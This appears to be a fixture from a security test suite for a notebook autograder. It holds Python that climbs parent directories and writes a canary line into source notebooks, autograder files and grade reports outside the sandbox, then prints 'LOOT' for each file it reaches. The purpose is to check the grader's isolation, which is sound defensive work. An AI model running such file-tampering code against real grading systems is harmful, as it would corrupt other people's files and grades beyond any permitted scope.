"""Overwrite the source notebooks, wherever they may be seen.

class: write
expect: graded
"""

EXTRA = [
    """import os

for up in range(0, 7):
    for tail in ("source/sums/sums.ipynb", "release/sums/sums.ipynb", "autograder/attack-canary.py",
                 "autograded/attack-canary", "report/attack-canary.csv", "sums/sums.ipynb"):
        path = "../" * up + tail
        inside = os.path.realpath(path).startswith(os.getcwd() + os.sep)
        if os.path.isdir(os.path.dirname(path)) and not inside:
            try:
                with open(path, "a" if "canary" not in path else "w") as file:
                    file.write("\\n# attack-canary overwrite_tests\\n")
                print("LOOT: wrote to", os.path.realpath(path))
            except OSError as error:
                print(error)"""
]
